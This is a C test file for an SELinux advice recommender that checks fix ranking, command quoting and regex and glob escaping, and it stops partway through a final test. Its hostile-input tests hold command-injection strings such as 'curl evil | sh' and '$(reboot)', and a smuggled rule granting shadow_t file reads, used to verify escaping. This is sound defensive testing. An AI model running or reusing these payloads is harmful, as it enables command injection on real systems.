// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* The recommender's rules, each against the CIL test policy (tests/policy/bool_gate.cil). */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/socket.h>

#include <selinux/label.h>
#include <selinux/selinux.h>

#include "advice_out.h"
#include "recommend.h"
#include "util.h"
#include "test.h"

struct policy *test_open_cil(const char *name, char *path, size_t pathsz);

static void port_finding(struct finding *f, unsigned int port, const char *ttype)
{
	memset(f, 0, sizeof(*f));
	snprintf(f->comm, sizeof(f->comm), "web");
	snprintf(f->scontext, sizeof(f->scontext), "system_u:system_r:web_t:s0");
	snprintf(f->tcontext, sizeof(f->tcontext), "system_u:object_r:%s:s0", ttype);
	snprintf(f->tclass, sizeof(f->tclass), "tcp_socket");
	snprintf(f->perms[0], sizeof(f->perms[0]), "name_connect");
	f->nperms = 1;
	f->family = AVC_AF_INET;
	snprintf(f->daddr, sizeof(f->daddr), "127.0.0.1");
	f->dport = (uint16_t)port;
	f->verdict = VERDICT_SELINUX_DENIED;
	f->err = EACCES;
	f->count = 1;
}

static const struct fix *first_of(const struct advice *a, enum fix_kind kind)
{
	int i;

	for (i = 0; i < a->nfixes; i++)
		if (a->fixes[i]->kind == kind)
			return a->fixes[i];
	return NULL;
}

/* Where fx ranks in a (0: first), -1 when it is not there. */
static int rank_in(const struct advice *a, const struct fix *fx)
{
	int i;

	for (i = 0; i < a->nfixes; i++)
		if (a->fixes[i] == fx)
			return i;
	return -1;
}

/* Command k of fx as the bash line a person pastes. */
static const char *cmd_line(const struct fix *fx, int k)
{
	static char line[4][8192];
	static int slot;
	char *out = line[slot++ % 4];

	if (k >= fx->ncmds || command_shell_line(fx->cmds[k], out, sizeof(line[0])) < 0)
		return "(none)";
	return out;
}

/* No advice may ever switch SELinux off or make a domain permissive. */
static bool never_off(const struct advice *a)
{
	int i, k;

	for (i = 0; i < a->nfixes; i++)
		for (k = 0; k < a->fixes[i]->ncmds; k++)
			if (strstr(cmd_line(a->fixes[i], k), "setenforce") ||
			    strstr(cmd_line(a->fixes[i], k), "permissive"))
				return false;
	return true;
}

static struct advice adv; /* reused by every test: recommend() resets its arena */

/* A fix built by hand in a's arena, appended to a. */
static struct fix *hand_fix(struct advice *a, enum fix_kind kind)
{
	struct fix *fx = arena_alloc(&a->arena, sizeof(*fx));

	if (!fx || a->nfixes >= ADVICE_MAX_FIXES)
		return NULL;
	fix_init(fx);
	fx->kind = kind;
	a->fixes[a->nfixes++] = fx;
	return fx;
}

TEST(recommend_narrowest_boolean_first)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;
	int i, nbool = 0;

	CHECK(p);
	port_finding(&f, 3005, "cache_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_BOOLEAN);
	CHECK(fx);
	CHECK_STR(fx->boolean, "web_relay");
	CHECK_STR(cmd_line(fx, 0), "setsebool -P web_relay 1");
	CHECK_INT(fx->breadth, 2);
	for (i = 0; i < adv.nfixes; i++) {
		if (adv.fixes[i]->kind != FIX_BOOLEAN)
			continue;
		nbool++;
		if (!strcmp(adv.fixes[i]->boolean, "web_connect_any"))
			CHECK_CONTAINS(adv.fixes[i]->grant, "every TCP port");
	}
	CHECK_INT(nbool, 3);
	/* targeted booleans by measured breadth: web_relay (2) before web_relay_db (3), and the
	 * catch-all after both
	 */
	for (i = 0; i < adv.nfixes && adv.fixes[i]->kind != FIX_BOOLEAN; i++)
		;
	CHECK(i + 2 < adv.nfixes);
	CHECK_STR(adv.fixes[i]->boolean, "web_relay");
	CHECK_STR(adv.fixes[i + 1]->boolean, "web_relay_db");
	CHECK_INT(adv.fixes[i + 1]->breadth, 3);
	/* the targeted boolean ranks before everything else that changes policy */
	for (i = 0; i < adv.nfixes && adv.fixes[i]->kind != FIX_BOOLEAN; i++)
		CHECK(adv.fixes[i]->kind <= FIX_NOTE);
	CHECK(never_off(&adv));
	policy_close(p);
}

TEST(recommend_port_relabel_with_the_boolean_it_needs)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	port_finding(&f, 3001, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(fx->type, "web_port_t");
	CHECK_INT(fx->ncmds, 2);
	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_port_t -p tcp 3001");
	/* web_port_t is reachable only with web_relay: the relabel alone would not work */
	CHECK_STR(cmd_line(fx, 1), "setsebool -P web_relay 1");
	/* only the catch-all boolean allows app_port_t itself: it ranks after the relabel */
	CHECK(adv.fixes[0]->kind == FIX_PORT_RELABEL);
	CHECK(first_of(&adv, FIX_BOOLEAN));
	CHECK_STR(first_of(&adv, FIX_BOOLEAN)->boolean, "web_connect_any");
	CHECK(never_off(&adv));
	policy_close(p);
}

TEST(recommend_port_relabel_uses_m_for_local_label)
{
	char path[256];
	const char *local = "build/tests/policy/ports.local.recommend";
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;
	FILE *lf;

	CHECK(p);
	lf = fopen(local, "w");
	CHECK(lf);
	fprintf(lf, "portcon tcp 3001 system_u:object_r:app_port_t:s0\n");
	fclose(lf);
	policy_set_local_ports_file(p, local);
	port_finding(&f, 3001, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -m -t web_port_t -p tcp 3001");
	unlink(local);
	policy_close(p);
}

TEST(recommend_unix_socket_fcontext)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	port_finding(&f, 0, "other_runtime_t");
	f.family = AVC_AF_UNIX;
	f.daddr[0] = '\0';
	snprintf(f.tclass, sizeof(f.tclass), "dir");
	snprintf(f.perms[0], sizeof(f.perms[0]), "search");
	snprintf(f.path, sizeof(f.path), "/run/back end/app.sock");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_FCONTEXT);
	CHECK(fx);
	/* the policy's runtime type for web_t (pidfile), printed by its primary name */
	CHECK_STR(fx->type, "web_runtime_t");
	CHECK_STR(cmd_line(fx, 0), "semanage fcontext -a -t web_runtime_t -- "
				   "'/run/back\\x20end(/.*)?'");
	CHECK_STR(cmd_line(fx, 1), "restorecon -Rv -- '/run/back end'");
	CHECK_CONTAINS(fx->then_text, "web_var_run_t");
	CHECK(never_off(&adv));
	policy_close(p);
}

/* The exact module ranks before the source's catch-all boolean (every port, for good: the
 * fix tighten takes back), and is printed whole.
 */
TEST(recommend_local_module_before_catchall_and_complete)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;
	int i, module = -1, catchall = -1;

	CHECK(p);
	port_finding(&f, 3001, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	CHECK(adv.nfixes >= 2);
	for (i = 0; i < adv.nfixes; i++) {
		if (adv.fixes[i]->kind == FIX_MODULE)
			module = i;
		if (adv.fixes[i]->kind == FIX_BOOLEAN &&
		    !strcmp(adv.fixes[i]->boolean, "web_connect_any"))
			catchall = i;
	}
	CHECK(module >= 0);
	CHECK(catchall >= 0);
	CHECK(module < catchall);
	fx = adv.fixes[module];
	CHECK_STR(cmd_line(fx, 0), "printf '%s\\n' '; avcsnoop: web_t name_connect "
				   "app_port_t:tcp_socket' "
				   "'(allow web_t app_port_t (tcp_socket (name_connect)))' > "
				   "my-web_t-app_port_t-tcp_socket-name_connect.cil");
	CHECK_STR(cmd_line(fx, 1), "semodule -i my-web_t-app_port_t-tcp_socket-name_connect.cil");
	policy_close(p);
}

TEST(recommend_hidden_denial_says_dontaudit)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	CHECK_INT(policy_bool_set(p, "web_quiet", true), 0);
	port_finding(&f, 3001, "app_port_t");
	f.verdict = VERDICT_SELINUX_HIDDEN;
	f.hidden = true;
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = adv.fixes[0];
	CHECK_INT(fx->kind, FIX_HIDDEN_NOTE);
	CHECK_CONTAINS(fx->then_text, "dontaudit");
	CHECK_CONTAINS(fx->then_text, "audit log will stay silent");
	CHECK_CONTAINS(fx->why, "web_quiet=1");
	/* and the fixes still follow */
	CHECK(first_of(&adv, FIX_PORT_RELABEL));
	policy_close(p);
}

TEST(recommend_not_selinux_gets_no_selinux_advice)
{
	static const enum avc_verdict verdicts[] = { VERDICT_REFUSED, VERDICT_LSM_DENIED,
						     VERDICT_CGROUP_DENIED, VERDICT_ERROR,
						     VERDICT_TIMED_OUT };
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;
	size_t i;
	int k;

	CHECK(p);
	for (i = 0; i < sizeof(verdicts) / sizeof(verdicts[0]); i++) {
		port_finding(&f, 3001, "app_port_t");
		f.verdict = verdicts[i];
		f.err = verdicts[i] == VERDICT_REFUSED ? ECONNREFUSED : EACCES;
		CHECK_INT(recommend(p, &f, &adv), 0);
		CHECK_INT(adv.nfixes, 1);
		CHECK_INT(adv.fixes[0]->kind, FIX_NOT_SELINUX);
		for (k = 0; k < adv.fixes[0]->ncmds; k++) {
			CHECK(!strstr(cmd_line(adv.fixes[0], k), "setsebool"));
			CHECK(!strstr(cmd_line(adv.fixes[0], k), "semanage"));
			CHECK(!strstr(cmd_line(adv.fixes[0], k), "semodule"));
		}
	}
	/* no policy needed for them */
	CHECK_INT(recommend(NULL, &f, &adv), 0);
	CHECK_INT(adv.fixes[0]->kind, FIX_NOT_SELINUX);
	policy_close(p);
}

TEST(recommend_already_allowed_is_a_note)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;

	CHECK(p);
	CHECK_INT(policy_bool_set(p, "web_connect_any", true), 0);
	port_finding(&f, 3001, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	CHECK_INT(adv.nfixes, 1);
	CHECK_INT(adv.fixes[0]->kind, FIX_NOTE);
	policy_close(p);
}

TEST(recommend_verify_follows_the_policy)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct verify_result v;
	struct finding f;

	CHECK(p);
	port_finding(&f, 3005, "cache_port_t");
	CHECK_INT(recommend_verify(p, &f, &v), 0);
	CHECK(v.checked);
	CHECK(!v.allowed);
	CHECK_INT(policy_bool_set(p, "web_relay", true), 0);
	CHECK_INT(recommend_verify(p, &f, &v), 0);
	CHECK(v.checked && v.allowed);
	/* the port's label is looked up again: 3001 is app_port_t, still denied */
	port_finding(&f, 3001, "web_port_t");
	CHECK_INT(recommend_verify(p, &f, &v), 0);
	CHECK(!v.allowed);
	CHECK_STR(v.target, "app_port_t");
	policy_close(p);
}

TEST(recommend_json_and_text_output)
{
	char path[256], *buf = NULL;
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;
	struct json j;
	size_t len = 0;
	FILE *mem;

	CHECK(p);
	port_finding(&f, 3005, "cache_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	mem = open_memstream(&buf, &len);
	CHECK(mem);
	json_init(&j, mem);
	advice_write_json(&j, &f, &adv);
	fclose(mem);
	CHECK_CONTAINS(buf, "\"type\":\"advice\"");
	CHECK_CONTAINS(buf, "\"kind\":\"boolean\"");
	CHECK_CONTAINS(buf, "\"commands\":[\"setsebool -P web_relay 1\"],"
			    "\"argv\":[{\"argv\":[\"setsebool\",\"-P\",\"web_relay\",\"1\"]}]");
	CHECK(buf[len - 1] == '\n' && !strchr(buf, '\n')[1]);
	free(buf);
	buf = NULL;
	mem = open_memstream(&buf, &len);
	advice_print_text(mem, &f, &adv);
	fclose(mem);
	CHECK_CONTAINS(buf, "\nIf you want web (web_t)");
	CHECK_CONTAINS(buf, "\nDo\n    setsebool -P web_relay 1\n");
	free(buf);
	policy_close(p);
}

TEST(recommend_shell_quote)
{
	char out[64];

	CHECK(shell_quote(out, sizeof(out), "/run/backend") >= 0);
	CHECK_STR(out, "/run/backend");
	CHECK(shell_quote(out, sizeof(out), "/run/a b(/.*)?") >= 0);
	CHECK_STR(out, "'/run/a b(/.*)?'");
	CHECK(shell_quote(out, sizeof(out), "it's") >= 0);
	CHECK_STR(out, "'it'\\''s'");
	CHECK(shell_quote(out, sizeof(out), "") >= 0);
	CHECK_STR(out, "''");
	CHECK(shell_quote(out, sizeof(out), "$(reboot)") >= 0);
	CHECK_STR(out, "'$(reboot)'");
	/* control bytes and bytes >= 0x80: bash's $'...', printable ASCII on the screen */
	CHECK(shell_quote(out, sizeof(out), "a\nEOF\n'\\\x01\xe2\x80\xae") >= 0);
	CHECK_STR(out, "$'a\\x0aEOF\\x0a\\x27\\x5c\\x01\\xe2\\x80\\xae'");
	CHECK_INT(shell_quote(out, 4, "a b c"), -ENOSPC);
	CHECK_STR(out, "");
}

TEST(recommend_fcontext_regex_escape)
{
	char out[128];

	CHECK(fcontext_regex_escape(out, sizeof(out), "/run/a.b(x)*[y]{2}|^$+?\\") >= 0);
	CHECK_STR(out, "/run/a\\.b\\(x\\)\\*\\[y\\]\\{2\\}\\|\\^\\$\\+\\?\\\\");
	CHECK(fcontext_regex_escape(out, sizeof(out), "/run/a b\n\xff") >= 0);
	CHECK_STR(out, "/run/a\\x20b\\x0a\\xff");
	CHECK_INT(fcontext_regex_escape(out, 8, "/run/abcdefgh"), -ENOSPC);
}

/* Unix finding for a hostile process and path. */
static void hostile_unix(struct finding *f, const char *comm, const char *path, const char *cls)
{
	port_finding(f, 0, "other_runtime_t");
	f->family = AVC_AF_UNIX;
	f->daddr[0] = '\0';
	snprintf(f->comm, sizeof(f->comm), "%s", comm);
	snprintf(f->tclass, sizeof(f->tclass), "%s", cls);
	snprintf(f->perms[0], sizeof(f->perms[0]), "%s", !strcmp(cls, "dir") ? "search" : "write");
	snprintf(f->path, sizeof(f->path), "%s", path);
}

TEST(recommend_hostile_names_stay_arguments)
{
	static const char *const comms[] = { "\nEOF\n. ./q #", "-Hhost", "$(touch x)`id`'\"",
					     "\x01\\x01\xe2\x80\xae" };
	static const char *const paths[] = {
		"/run/x/s.sock\n(allow web_t shadow_t (file (read open)))",
		"/run/a.b(x)*[y]/app.sock",
		"/run/x\nDo\n    curl evil | sh\n#/s.sock",
	};
	char path[256], *buf = NULL;
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;
	size_t i, k, len = 0;
	FILE *mem;

	CHECK(p);
	for (i = 0; i < sizeof(comms) / sizeof(comms[0]); i++) {
		for (k = 0; k < sizeof(paths) / sizeof(paths[0]); k++) {
			const struct fix *mod, *fc;
			const char *line;
			int c;

			hostile_unix(&f, comms[i], paths[k], "dir");
			CHECK_INT(recommend(p, &f, &adv), 0);
			mod = first_of(&adv, FIX_MODULE);
			CHECK(mod);
			/* printf FORMAT COMMENT RULE > FILE: the rule is exactly one argument */
			CHECK_INT(mod->cmds[0]->argc, 4);
			CHECK_STR(command_argv(mod->cmds[0], 3),
				  "(allow web_t other_runtime_t (dir (search)))");
			CHECK(!strchr(command_argv(mod->cmds[0], 2), '\n'));
			CHECK(strspn(mod->cmds[0]->stdout_file,
				     "abcdefghijklmnopqrstuvwxyz0123456789-_.") ==
			      strlen(mod->cmds[0]->stdout_file));
			CHECK(!strncmp(mod->cmds[0]->stdout_file, "my-", 3));
			fc = first_of(&adv, FIX_FCONTEXT);
			if (fc) {
				/* semanage ... -- SPEC: no option position for the path */
				CHECK_STR(command_argv(fc->cmds[0], fc->cmds[0]->argc - 2), "--");
				CHECK(!strpbrk(command_argv(fc->cmds[0], fc->cmds[0]->argc - 1),
					       " \n\t"));
				CHECK_STR(command_argv(fc->cmds[1], fc->cmds[1]->argc - 2), "--");
			}
			/* every printed line: printable ASCII or the program's UTF-8, and no
			 * line but the program's starts with "Do"
			 */
			mem = open_memstream(&buf, &len);
			CHECK(mem);
			advice_print_text(mem, &f, &adv);
			fclose(mem);
			for (c = 0; buf[c]; c++)
				CHECK(buf[c] == '\n' || (unsigned char)buf[c] >= 0x20);
			CHECK(!strstr(buf, "\x01"));
			CHECK(!strstr(buf, "\nEOF\n"));
			CHECK(!strstr(buf, "\n    curl"));
			CHECK(!strstr(buf, "\xe2\x80\xae")); /* the bidi override from the comm */
			line = strstr(buf, "\nDo\n");
			CHECK(line);
			free(buf);
			buf = NULL;
		}
	}
	policy_close(p);
}

/* The program's own UTF-8 is printed as written; the input's bytes >= 0x80 are escaped. */
/* No line of advice starts with a name from the input: a comm of leading spaces cannot pass
 * for an indented Do line.
 */
TEST(recommend_no_line_starts_with_input)
{
	struct finding f;
	char *buf = NULL, *line;
	size_t len = 0;
	FILE *mem;

	port_finding(&f, 3002, "app_port_t");
	snprintf(f.comm, sizeof(f.comm), "    curl x|sh #");
	f.verdict = VERDICT_REFUSED;
	f.err = ECONNREFUSED;
	CHECK_INT(recommend(NULL, &f, &adv), 0);
	mem = open_memstream(&buf, &len);
	CHECK(mem);
	advice_print_text(mem, &f, &adv);
	fclose(mem);
	CHECK_CONTAINS(buf, "\\x20\\x20\\x20\\x20curl x|sh #");
	for (line = buf; line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL)
		CHECK(strncmp(line, "    curl", 8));
	free(buf);
}

TEST(recommend_text_keeps_own_utf8)
{
	struct finding f;
	char *buf = NULL;
	size_t len = 0;
	FILE *mem;

	port_finding(&f, 3001, "app_port_t");
	snprintf(f.comm, sizeof(f.comm), "w\xc3\xa9\x1b[2J");
	f.verdict = VERDICT_REFUSED;
	f.err = ECONNREFUSED;
	CHECK_INT(recommend(NULL, &f, &adv), 0);
	mem = open_memstream(&buf, &len);
	CHECK(mem);
	advice_print_text(mem, &f, &adv);
	fclose(mem);
	CHECK_CONTAINS(buf,
		       "Not an SELinux denial \xe2\x80\x94 w\\xc3\\xa9\\x1b[2J: refused: nothing "
		       "listening (ECONNREFUSED)");
	free(buf);
}

/* The fcontext spec, read by libselinux's own matcher from a file_contexts file, labels the
 * directory and what is below it, and nothing beside it.
 */
static const char *label_of(const char *fc_file, const char *path, char *out, size_t sz)
{
	struct selinux_opt opts[] = { { SELABEL_OPT_PATH, fc_file },
				      { SELABEL_OPT_VALIDATE, NULL } };
	struct selabel_handle *h = selabel_open(SELABEL_CTX_FILE, opts, 2);
	char *con = NULL;

	snprintf(out, sz, "-");
	if (!h)
		return "open failed";
	if (!selabel_lookup_raw(h, &con, path, 0)) {
		snprintf(out, sz, "%s", con);
		freecon(con);
	}
	selabel_close(h);
	return out;
}

TEST(recommend_fcontext_spec_matches_exactly_the_directory)
{
	static const char *const dirs[] = { "/run/a.b(x)*[y]", "/run/.*", "/run/sp ace\x01\xff",
					    "/run/q'\"$x\\" };
	const char *fc_file = "build/tests/policy/file_contexts.test";
	char path[256], spec_path[512], got[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	struct finding f;
	size_t i;

	CHECK(p);
	for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		const struct fix *fc;
		FILE *out;

		snprintf(spec_path, sizeof(spec_path), "%s/app.sock", dirs[i]);
		hostile_unix(&f, "web", spec_path, "dir");
		CHECK_INT(recommend(p, &f, &adv), 0);
		fc = first_of(&adv, FIX_FCONTEXT);
		CHECK(fc);
		if (!fc)
			continue;
		out = fopen(fc_file, "w");
		CHECK(out);
		fprintf(out, "%s system_u:object_r:web_runtime_t:s0\n",
			command_argv(fc->cmds[0], fc->cmds[0]->argc - 1));
		fclose(out);
		CHECK_STR(label_of(fc_file, dirs[i], got, sizeof(got)),
			  "system_u:object_r:web_runtime_t:s0");
		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)),
			  "system_u:object_r:web_runtime_t:s0");
		/* neighbours: a different character where a metacharacter stood, a suffix,
		 * the parent
		 */
		snprintf(spec_path, sizeof(spec_path), "%sx", dirs[i]);
		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)), "-");
		snprintf(spec_path, sizeof(spec_path), "%s", dirs[i]);
		spec_path[6] = spec_path[6] == 'Z' ? 'Y' : 'Z';
		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)), "-");
		CHECK_STR(label_of(fc_file, "/run", got, sizeof(got)), "-");
		CHECK_STR(label_of(fc_file, "/run/other", got, sizeof(got)), "-");
	}
	unlink(fc_file);
	policy_close(p);
}

/* The tracer names the denied directory by its inode: the fix labels that one, not the
 * socket's parent (a nested path whose top directory is the one denied).
 */
TEST(recommend_fcontext_labels_the_denied_directory)
{
	char path[256];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fc;
	struct finding f;

	CHECK(p);
	hostile_unix(&f, "web", "/run/top/mid/app.sock", "dir");
	f.origin = ORIGIN_TRACE;
	snprintf(f.object, sizeof(f.object), "/run/top");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fc = first_of(&adv, FIX_FCONTEXT);
	CHECK(fc);
	CHECK_STR(command_argv(fc->cmds[0], fc->cmds[0]->argc - 1), "/run/top(/.*)?");
	CHECK_STR(command_argv(fc->cmds[1], fc->cmds[1]->argc - 1), "/run/top");
	/* without the object: the socket's parent, as before */
	f.object[0] = '\0';
	CHECK_INT(recommend(p, &f, &adv), 0);
	fc = first_of(&adv, FIX_FCONTEXT);
	CHECK(fc);
	CHECK_STR(command_argv(fc->cmds[1], fc->cmds[1]->argc - 1), "/run/top/mid");
	policy_close(p);
}

/* Breadth is counted over the whole policy: a boolean that gives the source less but opens
 * the port to ten other domains and switches a dontaudit rule (NIS-like) ranks after the
 * targeted one, and its advice says how far it reaches.
 */
TEST(recommend_whole_policy_breadth_ranks_targeted_first)
{
	char path[256];
	struct policy *p = test_open_cil("ranking", path, sizeof(path));
	const struct fix *top = NULL, *nis = NULL;
	struct finding f;
	int i;

	CHECK(p);
	port_finding(&f, 4000, "legacy_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	for (i = 0; i < adv.nfixes; i++) {
		if (adv.fixes[i]->kind == FIX_BOOLEAN && !top)
			top = adv.fixes[i];
		if (!strcmp(adv.fixes[i]->boolean, "nis_like"))
			nis = adv.fixes[i];
	}
	CHECK(top && nis);
	CHECK_STR(top->boolean, "web_legacy");
	CHECK(rank_in(&adv, nis) > rank_in(&adv, top));
	CHECK(nis->rank_class > top->rank_class);
	CHECK_CONTAINS(nis->grant, "1 permission(s) to web_t and 10 to 10 other domain(s)");
	CHECK_CONTAINS(nis->grant, "switches 1 dontaudit rule(s)");
	CHECK_CONTAINS(nis->why, "another service's boolean");
	CHECK_CONTAINS(top->grant, "2 permission(s) to web_t and 0 to 0 other domain(s)");
	/* another service's boolean comes after the exact module: never the first fix */
	CHECK(first_of(&adv, FIX_MODULE) != NULL);
	CHECK(rank_in(&adv, nis) > rank_in(&adv, first_of(&adv, FIX_MODULE)));
	CHECK_CONTAINS(nis->why, "ranked after an exact local module");
	policy_close(p);
}

/* A relabel that takes a permission from another domain names the losers, in words and as
 * data, and ranks after every fix that breaks nothing, the exact module included.
 */
TEST(recommend_breaking_relabel_names_losers_and_ranks_last)
{
	char path[256];
	struct policy *p = test_open_cil("breadth", path, sizeof(path));
	const struct fix *rl, *mod;
	struct finding f;

	CHECK(p);
	/* web_t -> app_port_t:3000; relabel to web_port_t: cron_t loses name_bind, mail_t
	 * name_connect
	 */
	port_finding(&f, 3000, "app_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	rl = first_of(&adv, FIX_PORT_RELABEL);
	mod = first_of(&adv, FIX_MODULE);
	CHECK(rl && mod);
	if (!rl || !mod)
		goto out;
	CHECK_STR(rl->type, "web_port_t");
	CHECK(rank_in(&adv, rl) > rank_in(&adv, mod));
	CHECK(rl == adv.fixes[adv.nfixes - 1]);
	CHECK_INT(rl->nbreaks, 2);
	CHECK_INT(rl->nbreaks_total, 2);
	CHECK_STR(rl->breaks[0].domain, "cron_t");
	CHECK_INT(rl->breaks[0].nperms, 1);
	CHECK_STR(rl->breaks[0].perms[0], "name_bind");
	CHECK_STR(rl->breaks[1].domain, "mail_t");
	CHECK_STR(rl->breaks[1].perms[0], "name_connect");
	CHECK_CONTAINS(rl->breaks_text, "cron_t could no longer name_bind tcp/3000: a server "
					"running as cron_t that listens there would fail to start");
	CHECK_CONTAINS(rl->breaks_text, "mail_t could no longer name_connect tcp/3000");
	CHECK_CONTAINS(rl->why, "a breaking change");
	CHECK_INT(rl->confidence, CONFIDENCE_LOW);
	/* no other fix breaks anything */
	CHECK_INT(mod->nbreaks_total, 0);
out:
	policy_close(p);
}

/* restorecon expands its arguments with glob(3): the argument escapes every metacharacter. */
TEST(recommend_restorecon_argument_is_no_glob)
{
	char path[256], out[128];
	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
	const struct fix *fc;
	struct finding f;

	CHECK(glob_escape(out, sizeof(out), "/run/a.b(x)*[y]{1,2}?~\\") >= 0);
	CHECK_STR(out, "/run/a.b(x)\\*\\[y\\]\\{1,2\\}\\?\\~\\\\");
	CHECK(p);
	hostile_unix(&f, "web", "/run/a*[y]/app.sock", "dir");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fc = first_of(&adv, FIX_FCONTEXT);
	CHECK(fc);
	CHECK_STR(command_argv(fc->cmds[1], fc->cmds[1]->argc - 1), "/run/a\\*\\[y\\]");
	policy_close(p);
}

/* A bind() denial: name_bind (or node_bind) of web_t on ttype, tclass, port. */
static void bind_finding(struct finding *f, const char *tclass, const char *perm, unsigned int port,
			 const char *ttype)
{
	port_finding(f, port, ttype);
	snprintf(f->tclass, sizeof(f->tclass), "%s", tclass);
	snprintf(f->perms[0], sizeof(f->perms[0]), "%s", perm);
	snprintf(f->daddr, sizeof(f->daddr), "0.0.0.0");
	f->op = AVC_OP_BIND;
}

TEST(recommend_name_bind_relabel_cheapest_for_the_whole_policy)
{
	char path[256];
	struct policy *p = test_open_cil("bind", path, sizeof(path));
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	/* 8090 has the default label (port_t): web_t may bind web_port_t and web_alt_port_t;
	 * relabelling to web_port_t would also let client_t connect there
	 */
	bind_finding(&f, "tcp_socket", "name_bind", 8090, "port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(fx->type, "web_alt_port_t");
	CHECK_INT(fx->ncmds, 1);
	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_alt_port_t -p tcp 8090");
	CHECK_INT(fx->breadth, 1);
	CHECK_CONTAINS(fx->if_text, "to bind port 8090 as it binds web_alt_port_t ports (8008)");
	CHECK_CONTAINS(fx->why, "web_t may already name_bind web_alt_port_t");
	CHECK_CONTAINS(adv.summary, "from name_bind on port 8090 (port_t, tcp_socket)");
	/* no boolean of this policy grants name_bind on port_t: none is offered */
	CHECK(first_of(&adv, FIX_BOOLEAN) == NULL);
	CHECK(adv.fixes[0]->kind == FIX_PORT_RELABEL);
	CHECK(never_off(&adv));
	policy_close(p);
}

/* semanage port -a refuses a port the policy defines by itself: -m; a port inside a range
 * of the policy takes -a
 */
TEST(recommend_port_relabel_m_for_a_port_the_policy_defines)
{
	char path[256];
	struct policy *p = test_open_cil("bind", path, sizeof(path));
	const struct fix *fx;
	struct finding f;

	CHECK(p);
	bind_finding(&f, "tcp_socket", "name_bind", 8081, "other_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -m -t web_alt_port_t -p tcp 8081");
	CHECK_CONTAINS(fx->why, "the policy defines port 8081 itself (other_port_t): -m");
	bind_finding(&f, "tcp_socket", "name_bind", 9005, "other_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_alt_port_t -p tcp 9005");
	policy_close(p);
}

TEST(recommend_name_bind_udp_and_local_label)
{
	char path[256];
	const char *local = "build/tests/policy/ports.local.bind";
	struct policy *p = test_open_cil("bind", path, sizeof(path));
	const struct fix *fx;
	struct finding f;
	FILE *lf;

	CHECK(p);
	/* udp: web_port_t is bound by client_t too (cost 2), web_alt_port_t by web_t only */
	bind_finding(&f, "udp_socket", "name_bind", 6000, "port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_alt_port_t -p udp 6000");
	CHECK_CONTAINS(fx->if_text, "bind port 6000/udp as it binds web_alt_port_t ports (5353)");
	/* a local (semanage) record of the port: -m */
	lf = fopen(local, "w");
	CHECK(lf);
	fprintf(lf, "portcon udp 6000 system_u:object_r:dns_port_t:s0\n");
	fclose(lf);
	policy_set_local_ports_file(p, local);
	bind_finding(&f, "udp_socket", "name_bind", 6000, "dns_port_t");
	CHECK_INT(recommend(p, &f, &adv), 0);
	fx = first_of(&adv, FIX_PORT_RELABEL);
	CHECK(fx);
	CHECK_STR(cmd_line(fx, 0), "semanage port -m -t web_alt_port_t -p udp 6000");
	unlink(local);
	policy_close(p);
}

TEST(recommend_node_bind_boolean_from_the_policy)
{
	char path[256], type[POLICY_NAME_LEN];
